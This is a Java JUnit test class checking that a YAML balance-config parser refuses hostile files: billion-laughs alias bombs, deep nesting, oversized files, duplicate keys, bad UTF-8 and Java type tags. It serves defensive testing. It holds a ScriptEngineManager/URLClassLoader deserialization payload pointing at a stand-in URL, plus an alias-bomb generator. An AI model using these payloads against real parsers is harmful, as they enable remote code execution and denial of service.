package dev.balancekit.yaml;

import static dev.balancekit.yaml.Yaml.parse;
import static dev.balancekit.yaml.Yaml.problems;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.Assertions.assertTimeout;

import dev.balancekit.Credits;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Files written to hurt: alias bombs, deep nesting, huge files, duplicate keys, object-constructing tags. */
class HostileInputTest {

    /** The classic "billion laughs": nine levels of nine aliases, 10^9 strings once expanded. */
    private static String billionLaughs(String indent) {
        StringBuilder y = new StringBuilder();
        y.append(indent).append("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        for (char c = 'b'; c <= 'i'; c++) {
            y.append(indent).append(c).append(": &").append(c).append(" [");
            for (int i = 0; i < 9; i++) {
                y.append(i > 0 ? "," : "").append('*').append((char) (c - 1));
            }
            y.append("]\n");
        }
        return y.toString();
    }

    @Test
    void billionLaughs_failsFastWithAClearError() {
        // level h names 9^7 x 9 strings of 3 characters: past 1 MiB before the 50th alias of a list
        String yaml = "balance:\n  enabled: true\n  tiers:\n" + billionLaughs("    ");
        assertTimeout(
                Duration.ofSeconds(10),
                () -> assertThat(problems(yaml))
                        .containsExactly(
                                "the file's aliases expand it to more than 1048576 characters; a value repeated by aliases counts each "
                                        + "time it is used (librechat.yaml:9:24)"));
    }

    @Test
    void billionLaughs_inAnIgnoredSection_isRefusedToo() {
        String yaml = "lol:\n" + billionLaughs("  ") + "balance: {enabled: true}\n";
        assertTimeout(
                Duration.ofSeconds(10),
                () -> assertThat(problems(yaml))
                        .singleElement()
                        .asString()
                        .startsWith("the file's aliases expand it to more than 1048576 characters"));
    }

    @Test
    void moreThanFiftyAliasesOfLists_areRefused_howeverSmall() {
        StringBuilder yaml = new StringBuilder("empty: &e []\nmany:\n");
        for (int i = 0; i < 51; i++) {
            yaml.append("  - *e\n");
        }
        assertThat(problems(yaml.toString()))
                .containsExactly("the file has more than 50 aliases of lists or mappings; "
                        + "alias bombs (\"billion laughs\") are refused (librechat.yaml:53:5)");
    }

    @Test
    void aliasesOfScalars_andAFewAliasesOfCollections_areFine() {
        StringBuilder yaml = new StringBuilder("amounts:\n  start: &start 5000\n  limits: &limits {daily: 100}\n");
        yaml.append("balance:\n  startBalance: *start\n  tiers:\n");
        for (int i = 0; i < 50; i++) {
            yaml.append("    t").append(i).append(": {startBalance: *start, usageLimits: *limits}\n");
        }
        assertThat(parse(yaml.toString()).tiers()).hasSize(50);
        assertThat(parse(yaml.toString()).startBalance()).isEqualTo(Credits.of(5000));
    }

    /** One value of {@code length} characters, then {@code aliases} aliases of it in a list where numbers are expected. */
    static String longValueAliased(int length, int aliases) {
        StringBuilder y =
                new StringBuilder("big: &v \"").append("x".repeat(length)).append("\"\n");
        y.append("balance:\n  notifications:\n    windowPercent: [");
        for (int i = 0; i < aliases; i++) {
            y.append(i > 0 ? ", " : "").append("*v");
        }
        return y.append("]\n").toString();
    }

    /** The expanded size before the first alias: the root mapping, the keys, the value and two mappings and a list. */
    private static final int BEFORE_ALIASES = 1 + 3 + 100_000 + 7 + 1 + 13 + 1 + 13 + 1;

    @Test
    void longValueAliasedTwoThousandTimes_isRefusedAtTheAliasThatCrossesTheLimit_withABoundedReport() {
        String yaml = longValueAliased(100_000, 2_000);
        assertThat(yaml.length()).isBetween(105_000, 110_000);
        // the 10th alias takes the expanded file past 1 MiB: 100,040 + 10 x 100,000 characters
        assertThat(BEFORE_ALIASES + 9 * 100_000).isLessThanOrEqualTo(YamlLedgerConfig.MAX_SIZE);
        assertThat(BEFORE_ALIASES + 10 * 100_000).isGreaterThan(YamlLedgerConfig.MAX_SIZE);

        ConfigException e = Yaml.failure(yaml);

        assertThat(e.messages())
                .containsExactly("the file's aliases expand it to more than 1048576 characters; a value "
                        + "repeated by aliases counts each time it is used (librechat.yaml:4:" + (21 + 9 * 4) + ")");
        assertThat(e.getMessage()).hasSizeLessThan(300);
    }

    @Test
    void aliasBombOfOneMebibyte_isRefusedWithAPositionedProblem() {
        String yaml = longValueAliased(100_000, 235_000);
        assertThat(yaml.length()).isBetween(1_000_000, YamlLedgerConfig.MAX_SIZE);

        assertThat(problems(yaml))
                .containsExactly("the file's aliases expand it to more than 1048576 characters; a "
                        + "value repeated by aliases counts each time it is used (librechat.yaml:4:" + (21 + 9 * 4)
                        + ")");
    }

    @Test
    void manyAliasesOfAShortValue_countAgainstTheLimitToo() {
        StringBuilder yaml = new StringBuilder("short: &s \"01234567890123456789\"\nlist: [");
        for (int i = 0; i < 100_000; i++) {
            yaml.append("*s,");
        }
        yaml.append("]\nbalance: {enabled: true}\n");

        assertThat(problems(yaml.toString()))
                .singleElement()
                .asString()
                .startsWith("the file's aliases expand it to more than 1048576 characters");
    }

    @Test
    void aliasesUpToTheExpandedLimit_areFine() {
        // 9 aliases of 100,000 characters expand the file to about 1,000,000 characters, inside 1 MiB
        assertThat(problems(longValueAliased(100_000, 9)))
                .hasSize(9)
                .allSatisfy(p -> assertThat(p)
                        .startsWith("balance.notifications.windowPercent[")
                        .hasSizeLessThan(250));
    }

    @Test
    void longValue_isQuotedAbbreviated_inEveryKindOfMessage() {
        String x = "x".repeat(100_000);
        String shown = "'" + "x".repeat(100) + "…(100000 chars)'";

        assertThat(problems("balance:\n  startBalance: " + x + "\n  enabled: " + x + "\n  timezone: " + x
                        + "\n  tiers: {free: {}}\n  defaultTier: " + x + "\n"))
                .containsExactly(
                        "balance.startBalance must be a plain decimal number, was " + shown + " (librechat.yaml:2:17)",
                        "balance.enabled must be true or false, was " + shown + " (librechat.yaml:3:12)",
                        "balance.timezone must be a time zone such as UTC or Europe/Berlin, was " + shown
                                + " (librechat.yaml:4:13)",
                        "balance.defaultTier must be one of the tiers free, was " + shown + " (librechat.yaml:6:16)");
        assertThat(problems("balance:\n  usageLimits: " + x + "\n"))
                .containsExactly("balance.usageLimits must be a mapping, was " + shown + " (librechat.yaml:2:16)");
    }

    @Test
    void longKey_isCutInTheMessageAndTheKeyPath() {
        ConfigException e = Yaml.failure("balance:\n  ? " + "k".repeat(100_000) + "\n  : 1\n");

        assertThat(e.problems()).singleElement().satisfies(p -> {
            assertThat(p.message()).matches("balance\\.k{992}…\\(\\d+ chars\\)");
            assertThat(p.keyPath()).isEqualTo("balance." + "k".repeat(992) + "…(100008 chars)");
            assertThat(p.location()).isEqualTo("librechat.yaml:2:5");
        });
    }

    @Test
    void twentyThousandProblems_areCounted_theFirstHundredListed() {
        StringBuilder yaml = new StringBuilder("balance:\n  notifications:\n    windowPercent: [");
        for (int i = 0; i < 20_000; i++) {
            yaml.append("0,");
        }
        yaml.append("]\n");

        ConfigException e = Yaml.failure(yaml.toString());

        assertThat(e.problems()).hasSize(100);
        assertThat(e.omitted()).isEqualTo(19_900);
        assertThat(e.problems().get(99).message())
                .isEqualTo("balance.notifications.windowPercent[99] must be between 1 and 100, was 0");
        assertThat(e.messages()).hasSize(101).last().isEqualTo("and 19900 more problems");
        assertThat(e.getMessage())
                .startsWith("invalid balance config librechat.yaml, 20000 problems:\n")
                .endsWith("\n  and 19900 more problems")
                .hasSizeLessThan(12_000);
    }

    @Test
    void deepNesting_isRefused() {
        String yaml = "balance: {enabled: true}\nbomb: " + "[".repeat(100_000) + "]".repeat(100_000) + "\n";
        assertTimeout(
                Duration.ofSeconds(10),
                () -> assertThat(problems(yaml))
                        .containsExactly(
                                "the file nests lists and mappings more than 64 levels deep (librechat.yaml:2:70)"));
    }

    @Test
    void nesting_upToTheLimitIsFine() {
        // the root mapping is level 1, so 63 more levels are allowed
        String yaml = "balance: {enabled: true}\ndeep: " + "[".repeat(63) + "]".repeat(63) + "\n";
        assertThat(parse(yaml).enabled()).isTrue();
        assertThat(problems("balance: {enabled: true}\ndeep: " + "[".repeat(64) + "]".repeat(64) + "\n"))
                .containsExactly("the file nests lists and mappings more than 64 levels deep (librechat.yaml:2:70)");
    }

    @Test
    void recursiveAlias_inTheBalanceSection_endsWithProblems() {
        assertThat(problems("balance:\n  tiers: &t {a: *t}\n"))
                .containsExactly(
                        "balance.tiers.a.a is not a known key; known keys: startBalance, minBalance, allowNegative, "
                                + "insufficientBalance, usageLimits, autoRefillEnabled, refillIntervalValue, refillIntervalUnit, "
                                + "refillAmount, refillMode, models, priceMultiplier, exempt (librechat.yaml:2:14)");
    }

    @Test
    void recursiveAlias_inAnIgnoredSection_isIgnored() {
        assertThat(parse("loop: &l [*l]\nbalance: {enabled: true}\n").enabled()).isTrue();
    }

    @Test
    void hugeText_isRefused() {
        String yaml = "balance: {enabled: true}\n#" + "x".repeat(YamlLedgerConfig.MAX_SIZE);
        assertThat(problems(yaml))
                .containsExactly("the file is larger than the limit of 1048576 characters (librechat.yaml)");
    }

    @Test
    void hugeFile_isRefusedWithoutReadingItWhole(@TempDir Path dir) throws Exception {
        Path file = dir.resolve("big.yaml");
        Files.write(
                file,
                ("balance: {enabled: true}\n#" + "x".repeat(YamlLedgerConfig.MAX_SIZE))
                        .getBytes(StandardCharsets.UTF_8));
        assertThatThrownBy(() -> YamlLedgerConfig.load(file, Map.of()))
                .isInstanceOfSatisfying(
                        ConfigException.class,
                        e -> assertThat(e.messages())
                                .containsExactly("the file is larger than the limit of 1048576 bytes (big.yaml)"));
    }

    @Test
    void fileAtTheLimit_isRead(@TempDir Path dir) throws Exception {
        String head = "balance: {enabled: true}\n#";
        Path file = dir.resolve("full.yaml");
        Files.write(
                file, (head + "x".repeat(YamlLedgerConfig.MAX_SIZE - head.length())).getBytes(StandardCharsets.UTF_8));
        assertThat(YamlLedgerConfig.load(file, Map.of()).enabled()).isTrue();
    }

    @Test
    void duplicateKeys_areRefused() {
        assertThat(problems("""
                balance:
                  enabled: false
                  enabled: true
                  tiers:
                    pro: {}
                    pro: {exempt: true}
                """))
                .containsExactly(
                        "balance.enabled appears more than once; first at line 2 (librechat.yaml:3:3)",
                        "balance.tiers.pro appears more than once; first at line 5 (librechat.yaml:6:5)");
    }

    @Test
    void duplicateBalanceSection_isRefused() {
        assertThat(problems("balance: {enabled: false}\nversion: 1\nbalance: {enabled: true}\n"))
                .containsExactly("balance appears more than once; first at line 1 (librechat.yaml:3:1)");
    }

    @Test
    void duplicateKeysInIgnoredSections_areNotOurs() {
        assertThat(parse("endpoints: {a: 1}\nendpoints: {b: 2}\nbalance: {enabled: true}\n")
                        .enabled())
                .isTrue();
    }

    @Test
    void javaTypeTags_constructNothingAndAreRefusedInTheBalanceSection() {
        assertThat(problems("""
                balance:
                  enabled: true
                  startBalance: !!java.lang.Runtime 5
                  tiers: !!java.util.HashMap {}
                  notifications:
                    windowPercent: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://example.invalid/"]]]]
                  defaultTier: !custom free
                """))
                .containsExactly(
                        "balance.startBalance has the tag !!java.lang.Runtime; tags are not allowed here (librechat.yaml:3:17)",
                        "balance.tiers has the tag !!java.util.HashMap; tags are not allowed here (librechat.yaml:4:10)",
                        "balance.notifications.windowPercent has the tag !!javax.script.ScriptEngineManager; tags are not allowed "
                                + "here (librechat.yaml:6:20)",
                        "balance.defaultTier has the tag !custom; tags are not allowed here (librechat.yaml:7:16)");
    }

    @Test
    void javaTypeTags_inIgnoredSections_areNeverConstructed() {
        assertThat(parse("""
                exploit: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://example.invalid/"]]]]
                runtime: !!java.lang.Runtime {}
                balance: {enabled: true}
                """).enabled()).isTrue();
    }

    @Test
    void plainYamlTags_areAllowed() {
        assertThat(parse("balance: {enabled: !!bool true, startBalance: !!str 100}\n")
                        .startBalance())
                .isEqualTo(Credits.of(100));
    }

    @Test
    void invalidUtf8_isRefused(@TempDir Path dir) throws Exception {
        Path file = dir.resolve("librechat.yaml");
        Files.write(file, new byte[] {'a', ':', ' ', (byte) 0xC3, (byte) 0x28, '\n'});
        assertThatThrownBy(() -> YamlLedgerConfig.load(file, Map.of()))
                .isInstanceOfSatisfying(
                        ConfigException.class,
                        e -> assertThat(e.messages()).containsExactly("the file is not valid UTF-8 (librechat.yaml)"));
    }
}
